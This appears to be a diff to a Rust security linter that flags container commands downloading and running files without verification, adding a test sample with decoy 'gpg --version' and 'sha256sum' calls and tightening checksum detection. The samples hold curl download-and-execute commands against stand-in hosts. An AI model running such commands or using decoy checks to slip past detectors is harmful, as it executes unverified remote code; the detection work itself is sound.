@@ -158,6 +158,10 @@ pub(super) static RULES: &[Rule] = &[
         samples: &[
             Sample::Hit(
                 45,
+                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/a https://dl.example.test/a; gpg --version; sha256sum /etc/hosts; chmod +x /tmp/a; /tmp/a']}]",
+            ),
+            Sample::Hit(
+                45,
                 "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
             ),
             Sample::Hit(
@@ -360,11 +364,20 @@ pub(super) fn runs_written_file(
     None
 }
 
+/// Whether a command compares what was fetched with something: `gpg --version` and `sha256sum FILE` do not.
 fn is_checksum(invocation: &Invocation) -> bool {
-    let program = invocation.program.as_str();
-    let checks = words(invocation).any(|word| matches!(word, "-c" | "--check" | "-sc" | "-wc"));
-    (matches!(program, "sha256sum" | "sha512sum" | "sha1sum" | "shasum" | "md5sum" | "b2sum") && checks)
-        || matches!(program, "cosign" | "gpg" | "minisign" | "signify")
+    let has = |options: &[&str]| words(invocation).any(|word| options.contains(&word));
+    match invocation.program.as_str() {
+        "sha256sum" | "sha512sum" | "sha1sum" | "shasum" | "md5sum" | "b2sum" => {
+            has(&["-c", "--check", "-sc", "-wc"])
+        }
+        "gpg" | "gpg2" | "gpgv" => invocation.program == "gpgv" || has(&["--verify"]),
+        "cosign" => has(&["verify", "verify-blob", "verify-attestation", "verify-blob-attestation"]),
+        "minisign" | "signify" => {
+            words(invocation).any(|word| word.starts_with("-V") || word.starts_with("-qV"))
+        }
+        _ => false,
+    }
 }
 
 /// `mv FILE TARGET`, `cp FILE TARGET`, `install … FILE TARGET`: the target, if the file is one of those.
